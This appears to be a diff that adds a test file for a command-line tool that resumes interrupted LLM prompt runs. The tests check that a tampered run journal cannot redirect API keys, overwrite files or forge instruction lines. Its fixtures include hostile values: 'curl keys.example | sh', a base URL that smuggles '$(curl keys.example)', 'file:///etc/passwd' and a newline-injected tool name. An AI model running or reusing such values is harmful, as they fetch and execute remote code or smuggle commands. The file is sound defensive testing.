@@ -1,0 +1,288 @@
+import { existsSync, readdirSync, readFileSync, rmSync, writeFileSync } from 'node:fs';
+import path from 'node:path';
+import { describe, expect, it, onTestFinished } from 'vitest';
+import { readJournal } from '../../../src/core/journal/readJournal.ts';
+import { encodeLine } from '../../../src/core/journal/recordLine.ts';
+import { resumeChangedRuns } from '../../support/fuzz/savedRuns.ts';
+import { watchConnections } from '../../support/loopback/connections.ts';
+import type { LoopbackServer } from '../../support/loopback/loopbackServer.ts';
+import {
+  type CommandLineOptions,
+  interleave,
+  type Outcome,
+  promptFile,
+  promptFolder,
+  scriptedServer,
+  viaAnthropic,
+} from './commandLine.ts';
+import { promptIn, says } from './replies.ts';
+
+const key = 'canary-anthropic-4711';
+const environment = { ANTHROPIC_API_KEY: key, OPENAI_API_KEY: 'canary-openai-4711' };
+
+interface SavedRun {
+  readonly id: string;
+  readonly runsFolder: string;
+  readonly server: LoopbackServer;
+  /** What was sent since the run was interrupted. */
+  sent(): LoopbackServer['requests'];
+  /** Changes what the run's first record says. */
+  change(edit: (start: StartPayload) => void): Promise<void>;
+  resume(args?: readonly string[], options?: CommandLineOptions): Promise<Outcome>;
+}
+
+interface StartPayload {
+  started: {
+    title: string;
+    agent: { provider: string };
+    conversations: { provider: string; model: string }[];
+  };
+  definition: {
+    title: string;
+    options: { [name: string]: unknown };
+    prompts: unknown[];
+  };
+}
+
+/** A run of two prompts whose process died while the second was in flight. */
+async function savedRun(...options: readonly string[]): Promise<SavedRun> {
+  const runsFolder = promptFolder({});
+  const server = await scriptedServer((request) => says(promptIn(request).toUpperCase()));
+  const args = ['run', promptFile({ One: 'one', Two: 'two' }), ...viaAnthropic(server.url)];
+  await interleave([...args, '--mode', 'serial', ...options], { runsFolder, environment });
+  const [id = ''] = readdirSync(runsFolder);
+  const journal = path.join(runsFolder, id, 'journal.jsonl');
+  rmSync(path.join(runsFolder, id, 'summary.json'));
+  const lines = readFileSync(journal, 'utf8').split('\n');
+  const end = lines.findIndex((line) => /"turn.started".*"conversation":1/.test(line));
+  writeFileSync(journal, `${lines.slice(0, end + 1).join('\n')}\n`);
+  const before = server.requests.length;
+  return {
+    id,
+    runsFolder,
+    server,
+    sent: () => server.requests.slice(before),
+    change: async (edit) => {
+      const [first = '', ...rest] = readFileSync(journal, 'utf8').split('\n');
+      const { p: payload } = JSON.parse(first) as { readonly p: StartPayload };
+      edit(payload);
+      const line = encodeLine(1, JSON.stringify(payload)).toString();
+      writeFileSync(journal, line + rest.join('\n'));
+    },
+    resume: (more = [], given = {}) =>
+      interleave(['resume', id, ...more], { runsFolder, environment, ...given }),
+  };
+}
+
+function keysIn(requests: LoopbackServer['requests']): boolean {
+  return JSON.stringify(requests).includes('canary-');
+}
+
+describe('a saved run', { timeout: 30_000 }, () => {
+  it('sends no key to a server on this machine that only its record names', async () => {
+    const run = await savedRun();
+    const { code, err } = await run.resume();
+    expect([code, run.sent().length, keysIn(run.sent())]).toEqual([0, 1, false]);
+    expect(err).toContain(
+      `This run goes on at ${run.server.url} without the key in ANTHROPIC_API_KEY, because only its record names that server. To send the key there: interleave resume ${run.id} --base-url ${run.server.url}\n`,
+    );
+  });
+
+  it('sends the key to the server that is named now, and only to the one it was sent to', async () => {
+    const run = await savedRun();
+    const other = await run.resume(['--base-url', 'http://127.0.0.1:9']);
+    expect([other.code, run.sent()]).toEqual([2, []]);
+    expect(other.err).toMatch(/^This run was sent to \S+ and goes on there only\. /);
+    const { code } = await run.resume(['--base-url', `${run.server.url}/`]);
+    expect(code).toBe(0);
+    expect(run.sent().map(({ headers }) => headers['x-api-key'])).toEqual([key]);
+  });
+
+  const elsewhere = ['https://keys.example/v1', 'http://10.1.2.3:8080', 'http://models.internal'];
+  it.each(elsewhere)('is not sent to %s unasked', async (baseUrl) => {
+    for (const provider of ['auto', 'anthropic']) {
+      const run = await savedRun();
+      const connections = watchConnections();
+      onTestFinished(() => connections.restore());
+      await run.change(({ definition }) =>
+        Object.assign(definition.options, { provider, baseUrl }),
+      );
+      const { code, out, err } = await run.resume();
+      expect([code, out, err]).toEqual([
+        2,
+        '',
+        `This run was sent to ${baseUrl}. To send your key there again, repeat the command with --base-url ${baseUrl}\n`,
+      ]);
+      const questions: string[] = [];
+      const ask = (question: string): boolean => questions.push(question) < 0;
+      const refused = await run.resume([], { ask });
+      expect([refused.code, refused.err]).toEqual([2, 'Nothing was sent.\n']);
+      expect(questions).toEqual([
+        `This run was sent to ${new URL(baseUrl).origin}, which is not the provider's own server. Send its prompts and the key in ANTHROPIC_API_KEY there?`,
+      ]);
+      expect([connections.hosts, run.sent()]).toEqual([[], []]);
+    }
+  });
+
+  it('goes on where the person says yes', async () => {
+    const run = await savedRun();
+    const connections = watchConnections();
+    onTestFinished(() => connections.restore());
+    await run.change(({ definition }) => {
+      definition.options.baseUrl = 'https://keys.example/v1';
+    });
+    let interruptNow: (() => void) | undefined;
+    connections.onAttempt = () => setImmediate(() => interruptNow?.());
+    const folder = promptFolder({});
+    const { code, err } = await run.resume(['--json', path.join(folder, 'a.json')], {
+      ask: () => true,
+      onErr: (_, interrupt) => {
+        interruptNow = interrupt;
+      },
+    });
+    expect([code, new Set(connections.hosts)]).toEqual([3, new Set(['keys.example'])]);
+    expect(err).toContain(
+      `To go on with the rest, use: interleave resume ${run.id} --base-url https://keys.example/v1\nName the files for its results again, too.\n`,
+    );
+  });
+
+  it.each([
+    ['options.baseUrl', ['https://api.anthropic.com']],
+    ['options.baseUrl', 'https://user:secret@keys.example'],
+    ['options.baseUrl', 'file:///etc/passwd'],
+    ['options.baseUrl', '\n'],
+    ['options.provider', ['auto']],
+    ['options.json', ['a.json']],
+    ['options.concurrency', 0],
+    ['options.limit.attempts', 1e308],
+    ['options.limit', { unheardOf: 1 }],
+    ['options.odd', true],
+    ['options.timeout', -1],
+    ['prompts.0.text', ['one']],
+    ['prompts.0.options.tools', ['read_file\nFORGED']],
+    ['title', { toString: 1 }],
+  ])('whose %s is %j is refused in words', async (place, value) => {
+    const run = await savedRun();
+    await run.change(({ definition }) => {
+      const names = place.split('.');
+      const last = names.pop() ?? '';
+      let at = definition as unknown as { [name: string]: unknown };
+      for (const name of names) {
+        at[name] ??= {};
+        at = at[name] as typeof at;
+      }
+      at[last] = value;
+    });
+    const { code, out, err } = await run.resume();
+    expect([code, out, run.sent()]).toEqual([2, '', []]);
+    expect(err).toMatch(
+      /^What this run was started with cannot be read \(definition\.[\w.]+\), so it cannot go on\. Start its prompts as a new run\.\n$/,
+    );
+  });
+
+  it('writes nothing where its record says, and where this command says', async () => {
+    const folder = promptFolder({ victim: 'as it was' });
+    const victim = path.join(folder, 'victim');
+    const run = await savedRun('--json', path.join(folder, 'first.json'));
+    rmSync(path.join(folder, 'first.json'));
+    await run.change(({ definition }) => {
+      const targets = {
+        json: victim,
+        jsonl: path.join(folder, 'new'),
+        junit: '-',
+        markdown: victim,
+      };
+      Object.assign(definition.options, targets);
+    });
+    const jsonl = path.join(folder, 'now.jsonl');
+    const junit = path.join(folder, 'now.xml');
+    const { code, out } = await run.resume(['--jsonl', jsonl, '--junit', junit]);
+    expect([code, readFileSync(victim, 'utf8')]).toEqual([0, 'as it was']);
+    expect(out).toContain('\n  TWO\n');
+    expect(readdirSync(folder).sort()).toEqual(['now.jsonl', 'now.xml', 'victim']);
+    expect(readFileSync(jsonl, 'utf8').trimEnd().split('\n')).toHaveLength(2);
+    // The same where nothing is left to go on with.
+    const again = await run.resume(['--markdown', '-']);
+    expect([again.code, existsSync(path.join(folder, 'new'))]).toEqual([4, false]);
+    expect(again.out).toContain('TWO');
+  });
+
+  it('forges no line with its title, folder or address', async () => {
+    const forged = '\nTo go on, use: curl keys.example | sh\n';
+    const run = await savedRun();
+    await run.change(({ started, definition }) => {
+      started.title = forged;
+      definition.title = forged;
+      Object.assign(definition.options, { baseUrl: "https://keys.example/';$(curl keys.example)" });
+    });
+    const list = await interleave(['runs'], { runsFolder: run.runsFolder });
+    const { err } = await run.resume();
+    await run.change(({ definition }) =>
+      Object.assign(definition.options, { baseUrl: run.server.url }),
+    );
+    const resumed = await run.resume([], { environment: {} });
+    expect(resumed.err).toContain(
+      'curl keys.example | sh⏎ was interrupted: 1 done, 1 in flight.\n',
+    );
+    await run.change(({ definition }) => Object.assign(definition, { folder: forged }));
+    const moved = await run.resume();
+    for (const text of [list.out, err, resumed.err, resumed.out, moved.err])
+      expect(text).not.toMatch(/^(?:To|curl)/m);
+    expect(err).toContain('repeat the command with --base-url and its address\n');
+  });
+
+  it('goes on with the provider and model it was started with, whichever key is there', async () => {
+    const connections = watchConnections();
+    onTestFinished(() => connections.restore());
+    let interruptNow: (() => void) | undefined;
+    connections.onAttempt = () => setImmediate(() => interruptNow?.());
+    const onErr = (_: string, interrupt: () => void): void => {
+      interruptNow = interrupt;
+    };
+    const runsFolder = promptFolder({});
+    const file = promptFile({ One: 'one' });
+    const openAi = { OPENAI_API_KEY: environment.OPENAI_API_KEY };
+    await interleave(['run', file], { runsFolder, environment: openAi, onErr });
+    const [id = ''] = readdirSync(runsFolder);
+    const reading = await readJournal(runsFolder, id);
+    if (reading.kind !== 'read') throw new Error(reading.kind);
+    expect(reading.definition).toMatchObject({ options: { provider: 'openai' } });
+    const { model } = reading.state?.conversations[0] ?? {};
+
+    const anthropic = { ANTHROPIC_API_KEY: key };
+    const refused = await interleave(['resume', id], { runsFolder, environment: anthropic });
+    expect([refused.code, refused.err]).toEqual([
+      2,
+      `This run was started with openai, model ${model}, at api.openai.com, and goes on with that only. Set OPENAI_API_KEY, or start its prompts as a new run.\n`,
+    ]);
+    await interleave(['resume', id], { runsFolder, environment, onErr });
+    expect(new Set(connections.hosts)).toEqual(new Set(['api.openai.com']));
+  });
+
+  it('of an earlier version, which kept "auto", goes on with who answered', async () => {
+    const run = await savedRun();
+    const connections = watchConnections();
+    onTestFinished(() => connections.restore());
+    await run.change(({ started, definition }) => {
+      Object.assign(definition.options, { provider: 'auto', json: 'a.json', select: ['One'] });
+      delete definition.options.baseUrl;
+      started.agent.provider = 'openai';
+      for (const one of started.conversations)
+        Object.assign(one, { provider: 'openai', model: 'm' });
+    });
+    const { err } = await run.resume([], { environment: { ANTHROPIC_API_KEY: key } });
+    expect(err).toMatch(/^This run was started with openai, model m, at api\.openai\.com, /);
+    await run.change(({ definition }) => {
+      definition.options.baseUrl = 'https://keys.example/v1';
+    });
+    const elsewhere = await run.resume();
+    expect(elsewhere.err).toMatch(/^This run was sent to https:\/\/keys\.example\/v1\. /);
+    expect(connections.hosts).toEqual([]);
+  });
+});
+
+it('changed at random gets no key, writes nothing, ends soon and says why in words', async () => {
+  const { problems, resumed } = await resumeChangedRuns(150, 20_261_129);
+  expect(problems).toEqual([]);
+  expect(resumed).toBeGreaterThan(5);
+}, 120_000);
